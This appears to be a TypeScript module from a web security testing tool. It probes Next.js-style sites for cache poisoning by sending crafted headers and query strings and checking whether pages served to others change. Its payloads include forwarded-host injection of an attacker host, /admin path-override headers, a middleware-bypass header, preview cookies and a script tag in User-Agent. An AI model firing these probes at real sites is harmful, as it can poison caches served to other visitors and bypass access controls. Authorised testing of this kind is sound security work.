import type { Attempt, Target } from "./target.ts";
import { attempt, call, choose, EVIL_HOST } from "./target.ts";

const MARK = "poisoned-1f3a";
const HEADERS = [
  { "X-Forwarded-Host": EVIL_HOST },
  { "X-Forwarded-Proto": "nothttps" },
  { "X-Forwarded-Prefix": `/${MARK}` },
  { "X-Original-URL": "/admin" },
  { "X-Rewrite-URL": "/admin" },
  { RSC: "1" },
  { RSC: "1", "Next-Router-Prefetch": "1" },
  { RSC: "1", "Next-Router-Segment-Prefetch": "/_tree" },
  { "Next-Action": "x" },
  { "Next-Url": `/${MARK}` },
  { "X-Nextjs-Data": "1" },
  { "X-Middleware-Prefetch": "1" },
  { "X-Middleware-Subrequest": "middleware:middleware:middleware:middleware:middleware" },
  { "X-Invoke-Status": "404" },
  { "X-Invoke-Path": "/404" },
  { "X-Matched-Path": "/404" },
  { "X-Now-Route-Matches": "1=x" },
  { "X-Prerender-Revalidate": "1" },
  { "X-Nextjs-Prerender": "1" },
  { "Next-Resume": "1" },
  { Purpose: "prefetch" },
  { "Accept-Language": MARK },
  { Cookie: "__prerender_bypass=1; __next_preview_data=1; NEXT_LOCALE=hi" },
  { Accept: "application/json" },
  { "User-Agent": `<script>${MARK}</script>` },
  { "If-None-Match": "*", "If-Modified-Since": "Wed, 21 Oct 2099 07:28:00 GMT" },
  { "Accept-Encoding": "br;q=0, *" },
  { "Content-Length": "5" },
];
const QUERIES = `
  ?${MARK} ?utm_source=${MARK} ?__nextLocale=hi&${MARK} ?amp=1&${MARK} ?_rsc=${MARK} ?nxtPcategory=${MARK} ?nxtPlocale=${MARK}
  ?__nextDataReq=1&${MARK} ?locale=${MARK} ;${MARK}
`
  .trim()
  .split(/\s+/);

export async function* tryCachePoisoning(target: Target): AsyncGenerator<Attempt> {
  const pages = ["/", "/product", "/about", "/gallery", "/contact", "/ebrochure", ...(await listCataloguePages(target))];
  const readPage = async (page: string) => {
    const { status, headers, body } = await call(target, "GET", page, { headers: { Accept: "text/html" } });
    return `${status} ${headers["content-type"]} ${headers.etag} ${body}`;
  };
  for (const page of choose(target, pages, 2)) {
    await readPage(page);
    const before = await readPage(page);
    for (const [what, path, headers] of [
      ...HEADERS.map((headers) => [JSON.stringify(headers), page, headers] as const),
      ...QUERIES.map((query) => [query, page + query, {}] as const),
    ]) {
      const response = await call(target, "GET", path, { headers, body: "Content-Length" in headers ? "hello" : undefined });
      const after = await readPage(page);
      // Only a response at the page's own path could reach other visitors.
      const isData = path === page && !/^(text\/html|undefined)/.test(String(response.headers["content-type"]));
      const hit =
        (after !== before && "changed the page for others") ||
        (isData && "returned something other than the page") ||
        (response.body.includes(EVIL_HOST) && "repeated it");
      yield attempt(`${page} with ${what}`, hit);
    }
  }
}

async function listCataloguePages(target: Target) {
  const { body } = await call(target, "GET", "/sitemap.xml");
  return [...body.matchAll(/<loc>([^<]*\/product\/[^<]*)<\/loc>/g)].slice(0, 4).map(([, address = ""]) => new URL(address).pathname);
}
